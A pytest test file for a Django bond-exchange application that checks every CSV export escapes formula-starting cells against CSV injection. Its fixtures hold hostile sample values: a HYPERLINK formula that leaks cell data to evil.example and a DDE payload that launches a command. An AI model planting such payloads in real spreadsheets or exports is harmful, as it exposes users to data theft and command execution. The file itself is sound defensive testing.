"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP "CSV
Injection"): holder-typed names, addresses and delivery instructions reach the delivery
list after the exchange date, the returns, the audit history and the tender report."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from django.test import Client

from exchange.jobs.runner import run_due_jobs
from exchange.models import DeficiencyKind
from exchange.services.review import record_deficiencies, validate_tender
from exchange.special_interest.payments import report_csv
from exchange.terms.spreadsheet import FORMULA_STARTS, safe_cell
from holders.models import Holder, NotesKind
from tests.factories import CLERK, SeedOffer, guarantee_letter, ny, paper_tender, staff_user

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your notes")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Ardsley Pension Trust", "Ardsley Pension Trust"),
        ("-4000000.00", "-4000000.00"),  # a plain number stays a number
        ("2008-senior", "2008-senior"),
    ],
)
def test_a_cell_that_starts_a_formula_is_written_as_text(raw: str, written: str) -> None:
    assert safe_cell(raw) == written


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(text: str, *expected: str) -> None:
    cells = _cells(text)
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and safe_cell(c) != c]
    assert dangerous == []
    for value in expected:
        assert "'" + value in cells


@pytest.fixture
def hostile(seed: SeedOffer) -> SeedOffer:
    """A holder whose name is a formula, a valid tender with formula delivery
    instructions (accepted on the exchange date), and a deficient one (returned)."""
    seed.offer.acceptance_automatic = True
    seed.offer.save(update_fields=["acceptance_automatic"])
    Holder.objects.filter(pk=seed.second_registered.pk).update(name=DDE)
    june26 = ny(2000, 6, 26, 10)
    accepted = paper_tender(
        seed,
        june26,
        special_issuance_name=HYPERLINK,
        special_delivery_address="+1 Evil Street",
        # Special issuance needs the signature guaranteed before the desk finds it valid.
        medallion_guarantor=seed.guarantor,
    )
    guarantee_letter(seed, accepted, june26)
    validate_tender(accepted.pk, actor=CLERK, now=june26)
    returned = paper_tender(
        seed,
        june26,
        holder=seed.second_registered,
        series=seed.senior_2010,
        certificates=(("R10-0002", "100000"),),
        registered_names=DDE,
    )
    record_deficiencies(
        returned.pk,
        defects=[(DeficiencyKind.SIGNATURE, "=1+1 sign the letter")],
        actor=CLERK,
        now=june26,
    )
    run_due_jobs(ny(2000, 7, 13, 9))  # expiration, then the exchange date
    return seed


def _command(*args: str) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


@pytest.mark.django_db
def test_every_command_export_is_inert(hostile: SeedOffer) -> None:
    slug = hostile.offer.slug
    deliveries = _command("delivery_list", slug)
    assert deliveries.count("\n") == 2  # the header and the accepted tender's delivery
    _assert_inert(deliveries, HYPERLINK, "+1 Evil Street")
    _assert_inert(_command("delivery_list", slug, "--returns"), DDE)
    _assert_inert(_command("audit_history", slug))
    _assert_inert(_command("tender_report", slug, "--format", "csv", "--as-of", "2000-07-13 10:00"))
    _assert_inert(_command("final_results", slug, "--format", "csv"))


@pytest.mark.django_db
def test_every_desk_export_is_inert(hostile: SeedOffer) -> None:
    client = Client()
    client.force_login(staff_user("clerk1", "Clerks"))
    base = f"/admin/exchange/exchangeoffer/{hostile.offer.pk}/reports/"
    for name, expected in (
        ("deliveries.csv", (HYPERLINK, "+1 Evil Street")),
        ("returns.csv", (DDE,)),
        ("audit.csv", ()),
    ):
        response = client.get(base + name)
        assert response.status_code == 200, name
        _assert_inert(b"".join(response.streaming_content).decode(), *expected)
    for name in ("tender/", "final/"):
        response = client.get(base + name, {"format": "csv", "as_of": "2000-07-13 10:00"})
        _assert_inert(b"".join(response.streaming_content).decode())


def test_the_special_interest_payment_csv_is_inert() -> None:
    payment = SimpleNamespace(
        holder=SimpleNamespace(name=HYPERLINK),
        series=SimpleNamespace(slug="2008-senior"),
        basis=Decimal("6000000.00"),
        days=2,
        rate_steps="0.50%",
        gross=Decimal("166.67"),
        withholding=Decimal("0.00"),
        net=Decimal("166.67"),
        notes=NotesKind.NEW,
        cusip="52729NAD2",
    )
    _assert_inert(report_csv(SimpleNamespace(payments=[payment])), HYPERLINK)  # type: ignore[arg-type]
